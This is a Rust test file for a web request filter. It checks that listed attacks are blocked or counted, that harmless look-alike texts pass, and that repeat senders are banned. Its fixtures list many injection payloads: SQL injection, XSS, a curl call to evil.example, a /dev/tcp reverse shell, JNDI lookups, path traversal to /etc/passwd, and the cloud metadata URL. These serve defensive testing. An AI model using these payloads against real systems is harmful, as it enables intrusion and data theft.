//! The request filter: attacks of every kind are told of or refused, and nothing harmless is.

use axum::extract::State;
use kernel::problem::ProblemKind;
use kernel::{Access, Clock, Rng, Timestamp};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use web::filter::{BODY_BYTES_MAX, FilterMode, Place, RULES, RequestFilter, TEXT_BYTES_MIN, UNSEEN_FIELDS};
use web::{Answer, Doc, Json, NoContent, Query, Routes, Web, WebApp, WireJson};

use crate::world::ask;

const PEER: &str = "203.0.113.9:4711";

struct World {
    app: WebApp,
    filter: RequestFilter,
    /// Requests that came to their handler.
    done: Arc<AtomicUsize>,
}

/// What a route takes.
#[derive(Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Note {
    /// A text.
    #[serde(default)]
    text: String,
    /// Texts.
    #[serde(default)]
    more: Vec<String>,
    /// A secret.
    #[serde(default)]
    password: String,
}

/// A filter of a list.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Choice {
    /// A selector.
    #[serde(default, rename = "selector")]
    _selector: Option<String>,
}

fn world(mode: FilterMode) -> World {
    let filter = RequestFilter::new(mode);
    let done = Arc::new(AtomicUsize::new(0));
    let routes = Routes::new("notes", Arc::clone(&done))
        .get(
            "/notes",
            Access::Public,
            Doc::new("list", "List"),
            async |State(done): State<Arc<AtomicUsize>>, Query(_): Query<Choice>| -> Answer<NoContent> {
                done.fetch_add(1, Ordering::SeqCst);
                Ok(NoContent)
            },
        )
        .post(
            "/notes",
            Access::Public,
            Doc::new("take", "Take"),
            async |State(done): State<Arc<AtomicUsize>>, Json(_): Json<Note>| -> Answer<NoContent> {
                done.fetch_add(1, Ordering::SeqCst);
                Ok(NoContent)
            },
        )
        .post(
            "/agent/report",
            Access::Report,
            Doc::new("report", "Report"),
            async |State(done): State<Arc<AtomicUsize>>, WireJson(_): WireJson<Value>| -> Answer<NoContent> {
                done.fetch_add(1, Ordering::SeqCst);
                Ok(NoContent)
            },
        )
        .post(
            "/agent/note",
            Access::Report,
            Doc::new("note", "Note"),
            async |State(done): State<Arc<AtomicUsize>>, Json(_): Json<Note>| -> Answer<NoContent> {
                done.fetch_add(1, Ordering::SeqCst);
                Ok(NoContent)
            },
        );
    let (clock, _hand) = Clock::manual(Timestamp::from_seconds(1_795_327_200));
    let app = Web::builder(clock, Rng::seeded(1), Arc::new(crate::world::Credentials)).filter(filter.clone()).mount(routes).build();
    World { app, filter, done }
}

impl World {
    async fn target(&self, target: &str) -> String {
        ask("GET", target).from(PEER).of(&self.app).await.problem()
    }

    async fn body(&self, body: &Value) -> String {
        ask("POST", "/api/v1/notes")
            .with("content-type", "application/json")
            .body(body.to_string())
            .from(PEER)
            .of(&self.app)
            .await
            .problem()
    }
}

/// Attacks as they stand in a query's value or in a text of a body, each with the rule that finds it first.
const TEXTS: &[(&str, &str)] = &[
    ("sql-always-true", "1' or '1'='1"),
    ("sql-always-true", "x' OR 1=1 --"),
    ("sql-always-true", "admin' AND 1=(SELECT COUNT(*) FROM tabname); --"),
    ("sql-always-true", "') or ('a'='a"),
    ("sql-always-true", "\" || \"a\"=\"a"),
    ("sql-always-true", "x' and email is NULL; --"),
    ("sql-union", "1 UNION ALL SELECT NULL,NULL"),
    ("sql-union", "1/**/union/*!*/select/**/password"),
    ("sql-union", "1 union\nselect 2"),
    ("script-element", "/*<script>alert(1)</script>"),
    ("script-element", "/* <script>alert(1)</script> */"),
    ("sql-stacked", "1'; DROP TABLE users"),
    ("sql-stacked", "1; delete from access_token"),
    ("sql-waiting", "1 and pg_sleep(10)"),
    ("sql-waiting", "1;WAITFOR DELAY '0:0:5'"),
    ("sql-waiting", "sleep(5)#"),
    ("sql-waiting", "randomblob(1000000000/2)"),
    ("sql-catalogue", "select name from sqlite_master"),
    ("sql-function", "extractvalue(1,concat(0x7e,version()))"),
    ("sql-function", "x into outfile '/tmp/a'"),
    ("sql-cut-off", "admin'--"),
    ("sql-cut-off", "admin') #"),
    ("sql-subquery", "(select token from tokens where 1)"),
    ("script-element", "<script>alert(1)</script>"),
    ("script-element", "<ScRiPt src=//evil.example>"),
    ("script-element", "\"><iframe src=x>"),
    ("script-handler", "<img src=x onerror=alert(1)>"),
    ("script-handler", "<svg/onload=alert(1)>"),
    ("script-handler", "<details open ontoggle=alert(1)>"),
    ("script-address", "javascript:alert(1)"),
    ("script-address", "data:text/html;base64,PHNjcmlwdD4="),
    ("script-call", "document.cookie"),
    ("script-call", "eval(atob('YQ=='))"),
    ("shell-command", "a;cat /x"),
    ("shell-command", "a | whoami"),
    ("shell-command", "$(curl http://evil.example)"),
    ("shell-command", "`id`"),
    ("shell-command", "a && /usr/bin/wget x"),
    ("shell-program", "/bin/sh"),
    ("shell-program", "cmd.exe /c dir"),
    ("shell-program", "bash -i >& /dev/tcp/10.0.0.1/8080"),
    ("lookup-jndi", "${jndi:ldap://evil.example/a}"),
    ("lookup-jndi", "${${lower:j}ndi:x}"),
    ("template", "{{7*7}}"),
    ("template", "{{''.__class__.__mro__}}"),
    ("template", "<%= 7*7 %>"),
    ("template", "${7*7}"),
    ("template", "#{7*7}"),
    ("object-prototype", "__proto__"),
    ("object-prototype", "constructor.prototype"),
    ("document-type", "<!DOCTYPE foo [<!ENTITY x SYSTEM \"a\">]>"),
    ("address-scheme", "file:///x"),
    ("address-scheme", "gopher://127.0.0.1:6379/_x"),
    ("address-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("directory-search", "*)(uid=*))(|(uid=*"),
];

/// Attacks that are a request's target.
const TARGETS: &[(&str, &str)] = &[
    ("path-parent", "/api/v1/../../etc"),
    ("path-parent", "/api/v1/notes?selector=..%2f..%2f"),
    ("path-parent", "/assets/%2e%2e/%2e%2e/x"),
    ("path-parent", "/assets/%252e%252e%252fx"),
    ("path-parent", "/assets/..%5cx"),
    ("path-parent", "/assets/..;/x"),
    ("path-overlong", "/assets/%c0%ae%c0%ae/x"),
    ("path-overlong", "/assets/%e0%80%ae/x"),
    ("path-system-file", "/api/v1/notes?selector=/etc/passwd"),
    ("path-system-file", "/api/v1/notes?selector=/proc/self/environ"),
    ("path-system-file", "/api/v1/notes?selector=c:%5cwindows%5csystem.ini"),
    ("path-probe", "/.git/config"),
    ("path-probe", "/.env"),
    ("path-probe", "/wp-login.php"),
    ("path-probe", "/index.php?x=1"),
    ("path-probe", "/cgi-bin/test"),
    ("bytes-null", "/api/v1/notes?selector=a%00"),
    ("header-injected", "/api/v1/notes?selector=a%0d%0aSet-Cookie:%20a=b"),
    ("header-injected", "/api/v1/notes?selector=a%0aLocation:%20//evil.example"),
];

/// Attacks in a header.
const HEADERS: &[(&str, &str, &str)] = &[
    ("scanner", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("scanner", "user-agent", "Mozilla/5.0 (Nikto/2.1.6)"),
    ("shell-function", "user-agent", "() { :; }; echo x"),
    ("lookup-jndi", "user-agent", "${jndi:dns://evil.example}"),
    ("path-parents", "referer", "https://purser.example/../../../x"),
    ("sql-waiting", "x-forwarded-for", "1' xor pg_sleep(5)"),
    ("script-element", "referer", "<script>alert(1)</script>"),
];

/// What people and programs of this product send, with every sign in it that attacks have too.
const HARMLESS: &[&str] = &[
    "O'Brien & Sons",
    "Rock 'n' Roll; Paris & London",
    "D'Artagnan or d'Artagnan's cat",
    "it's 1 or 2 = fine",
    "\"Oracle\" is out of support",
    "Laptop \"Kasia\" and dock is broken",
    "the 'or' gate, the 'and' gate",
    "Select a table from the catalogue",
    "We select committee members from union lists",
    "The union selected a chair; drop by the table at 5",
    "please update the user's set of labels",
    "os:windows and not label:site=warsaw",
    "(group:\"Front desk\" or name:web-*) and os:linux",
    "label:owner=\"Ada Lovelace\"",
    "version < 2.0 and version >= 1.4",
    "openssl <= 3.0.2-0ubuntu1.15",
    "a < b && c > d",
    "A->B <-> C <3",
    "<ada@example.org>",
    "see https://example.org/a/../b?x=1&y=2#z",
    "C# and F# on .NET; node.js; a.env file in ~/.config",
    "disk is 90% full; sleep mode on; ping me",
    "Restart nginx; then tell me | ask Bob",
    "cost: $5 {approx} (see §2) -- thanks",
    "\u{17b}\u{f3}\u{142}ta \u{142}\u{f3}d\u{17a} \u{2014} \u{201e}cytat\u{201d}",
    "CVE-2024-3094 in xz-utils 5.6.0-0.2 (bash, sh, curl affected)",
    "data: text, image; style=bold",
    "10.0.0.0/8, 192.0.2.0/24, 2001:db8::/32",
    "{\"a\": [1, 2]} and {{ name }} and ${HOME}",
    "on error resume next; onboarding=done",
    "java script: the good parts",
    "file server; php 8.2; zip files",
    "10:30 - 11:45; \"/* no comment */\"",
    "env = prod; id = 7",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

#[tokio::test]
async fn promise_gl_18_every_attack_of_the_list_is_refused_where_the_filter_blocks_and_nothing_is_done() {
    let world = world(FilterMode::Block);
    for (rule, text) in TEXTS {
        for target in [encoded(text), encoded(&encoded(text))] {
            assert_eq!(world.target(&format!("/api/v1/notes?selector={target}")).await, "403 request-blocked", "{rule}: {text}");
        }
        assert_eq!(world.body(&json!({ "text": text })).await, "403 request-blocked", "{rule}: {text}");
        assert_eq!(world.body(&json!({ "more": ["harmless", text] })).await, "403 request-blocked", "{rule}: {text}");
        assert_eq!(world.body(&json!({ (*text): 1 })).await, "403 request-blocked", "{rule}: {text} as a name");
    }
    for (rule, target) in TARGETS {
        assert_eq!(world.target(target).await, "403 request-blocked", "{rule}: {target}");
    }
    for (rule, name, value) in HEADERS {
        let asked = ask("GET", "/api/v1/notes").with(name, value).from(PEER);
        assert_eq!(asked.of(&world.app).await.problem(), "403 request-blocked", "{rule}: {value}");
    }
    assert_eq!(world.done.load(Ordering::SeqCst), 0);
}

#[test]
fn each_attack_is_found_by_the_rule_of_its_kind_and_each_rule_finds_one() {
    let filter = RequestFilter::new(FilterMode::Detect);
    let head = |target: &str| {
        filter
            .look_at_head(&target.parse().unwrap_or_else(|error| panic!("{target}: {error}")), &axum::http::HeaderMap::new())
            .map(|found| found.rule)
    };
    for (rule, text) in TEXTS {
        assert_eq!(filter.look_at_body(json!({ "text": text }).to_string().as_bytes()).map(|found| found.rule), Some(*rule), "{text}");
    }
    for (rule, target) in TARGETS {
        assert_eq!(head(target), Some(*rule), "{target}");
    }
    for (rule, name, value) in HEADERS {
        let mut headers = axum::http::HeaderMap::new();
        headers.insert(axum::http::HeaderName::from_bytes(name.as_bytes()).expect("a name"), value.parse().expect("a value"));
        assert_eq!(filter.look_at_head(&"/".parse().expect("a target"), &headers).map(|found| found.rule), Some(*rule), "{value}");
    }
    let met = filter.counts();
    let unmet: Vec<_> = RULES.iter().map(|rule| rule.name).filter(|name| !met.contains_key(name)).collect();
    assert_eq!(unmet, Vec::<&str>::new(), "a rule that nothing is found by is not known to work");
}

#[tokio::test]
async fn promise_gl_18_nothing_harmless_is_refused() {
    let world = world(FilterMode::Block);
    for text in HARMLESS {
        let answer = ask("GET", &format!("/api/v1/notes?selector={}", encoded(text)))
            .with("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:145.0)");
        assert_eq!(answer.from(PEER).of(&world.app).await.status, 204, "{text}");
        let body = json!({ "text": text, "more": [text] }).to_string();
        let answer = ask("POST", "/api/v1/notes").with("content-type", "application/json").body(body).from(PEER).of(&world.app).await;
        assert_eq!(answer.status, 204, "{text}: {}", answer.text());
    }
    assert_eq!(world.filter.counts().len(), 0);
}

#[tokio::test]
async fn promise_gl_18_where_it_detects_requests_go_on_and_are_counted_and_where_it_is_off_nothing_is() {
    for (mode, counted) in [(FilterMode::Detect, 2), (FilterMode::Off, 0)] {
        let world = world(mode);
        let asked = ask("GET", "/api/v1/notes?selector=1%20union%20select%202").from(PEER);
        assert_eq!(asked.of(&world.app).await.status, 204);
        let asked = ask("POST", "/api/v1/notes").json(r#"{"text": "1 union select 2"}"#).from(PEER);
        assert_eq!(asked.of(&world.app).await.status, 204);
        assert_eq!(world.filter.counts().values().sum::<u64>(), counted, "{mode}");
        assert_eq!(world.done.load(Ordering::SeqCst), 2);
    }
}

#[tokio::test]
async fn promise_gl_18_what_agents_report_passwords_and_the_host_are_not_looked_at() {
    let world = world(FilterMode::Block);
    let attack = TEXTS.iter().map(|(_, text)| *text).collect::<Vec<_>>().join(" ");
    let report = ask("POST", "/api/v1/agent/report").token("telemetry").json(&json!({ "package": attack }).to_string()).from(PEER);
    assert_eq!(report.of(&world.app).await.status, 204, "a package may be called anything");
    let note = ask("POST", "/api/v1/agent/note").token("telemetry").json(&json!({ "text": attack }).to_string()).from(PEER);
    assert_eq!(note.of(&world.app).await.status, 204, "in whichever form it comes");
    for field in UNSEEN_FIELDS {
        let body = json!({ "more": [], (field): attack });
        let answer = ask("POST", "/api/v1/notes").json(&body.to_string()).from(PEER).of(&world.app).await;
        assert_ne!(answer.status, 403, "{field}");
    }
    let local = ask("GET", "/api/v1/notes?selector=..%2f").local();
    assert_eq!(local.of(&world.app).await.status, 204);
}

#[tokio::test]
async fn a_long_body_is_looked_at_to_its_limit_and_not_beyond() {
    let filter = RequestFilter::new(FilterMode::Detect);
    let attack = "<svg/onload=";
    let body = |before: usize| json!({ "text": format!("{}{attack}", "a".repeat(before)) }).to_string();
    // The field's name is a text as well.
    let room = BODY_BYTES_MAX - TEXT_BYTES_MIN - attack.len();
    assert!(filter.look_at_body(body(room).as_bytes()).is_some_and(|found| found.place == Place::Body));
    assert_eq!(filter.look_at_body(body(room + 1).as_bytes()), None);

    // Texts of a byte cost more than their byte: as many of them as fit are looked at, and the one after them is not.
    let short = |before: usize| json!([vec!["a"; before], ["../../etc/passwd"]]).to_string();
    let room = BODY_BYTES_MAX / TEXT_BYTES_MIN;
    assert!(filter.look_at_body(short(room - 1).as_bytes()).is_some_and(|found| found.place == Place::Body));
    assert_eq!(filter.look_at_body(short(room).as_bytes()), None);
}

#[tokio::test]
async fn who_keeps_sending_attacks_is_banned() {
    let world = world(FilterMode::Block);
    for _ in 0..=web::doors::PEER_REFUSALS.burst {
        assert_eq!(world.target("/.git/config").await, "403 request-blocked");
    }
    assert_eq!(world.target("/api/v1/notes").await, "429 banned");
    assert_eq!(ask("GET", "/api/v1/notes").from("203.0.113.10:1").of(&world.app).await.status, 204, "the neighbour is not");
}

#[tokio::test]
async fn who_was_let_in_lately_bans_nobody_else_at_the_same_address() {
    let world = world(FilterMode::Block);
    let report = || ask("POST", "/api/v1/agent/report").token("telemetry").from(PEER);
    let sent = report().with("content-type", "application/json").body("{}").of(&world.app).await;
    assert_eq!(sent.status, 204, "{}", sent.text());
    for _ in 0..=web::doors::PEER_REFUSALS.burst {
        let answer = ask("GET", "/api/v1/notes?selector=1%27%20or%20%271%27=%271").token("telemetry").from(PEER).of(&world.app).await;
        assert_eq!(answer.problem(), "403 request-blocked");
    }
    assert_eq!(ask("GET", "/api/v1/notes").from(PEER).of(&world.app).await.status, 204);
}

#[test]
fn a_mode_is_read_as_it_is_written() {
    for mode in [FilterMode::Off, FilterMode::Detect, FilterMode::Block] {
        assert_eq!(mode.to_string().parse(), Ok(mode));
    }
    assert_eq!("blocked".parse::<FilterMode>().map_err(|error| error.to_string()), Err("give off, detect or block".to_owned()));
    assert_eq!(ProblemKind::FORBIDDEN.status, web::answer::REQUEST_BLOCKED.status);
}
